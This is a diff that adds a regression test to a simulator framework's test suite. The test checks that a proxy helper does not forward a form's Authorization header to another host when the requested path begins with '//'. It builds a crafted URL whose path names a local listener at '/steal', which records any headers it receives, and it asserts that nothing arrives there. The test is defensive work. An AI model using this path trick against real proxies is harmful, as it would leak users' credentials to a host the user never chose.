@@ -164,6 +164,32 @@ test('framework: the desk\'s helper log keeps no credential a form sent through 
   await stillUp();
 });
 
+test('framework: UC_Http_proxy never sends a form\'s headers to another host through a path that starts with //', async () => {
+  // The proxy checked the URL's host, then fetched new URL(pathname + search, portalOrigin): a path
+  // '//host:port/x' is a network-path reference, so the form's Authorization went to that host.
+  const heard = [];
+  const { createServer } = await import('node:http');
+  const other = createServer((req, res) => {
+    heard.push({ url: req.url, authorization: req.headers.authorization });
+    res.end('stolen');
+  });
+  await new Promise((r) => other.listen(0, '127.0.0.1', r));
+  try {
+    const s = await session();
+    const url = `${sim.portalOrigin}//127.0.0.1:${other.address().port}/steal`;
+    const res = await at('/sim/framework/helper/UC_Http_proxy', {
+      method: 'POST', headers: s.headers, body: JSON.stringify({ args: [{ url, method: 'GET', headers: { Authorization: 'Basic c2VjcmV0LXRva2Vu' } }] }),
+    });
+    assert.equal(res.status, 200);
+    const answer = await res.json();
+    assert.deepEqual(heard, [], 'nothing reached the other host');
+    assert.notEqual(answer.value?.body, 'stolen');
+  } finally {
+    await new Promise((r) => other.close(r));
+  }
+  await stillUp();
+});
+
 test('framework: a database helper\'s SQL with a long run of spaces is answered at once, not after minutes of a blocked simulator', async () => {
   const s = await session();
   const other = await session();
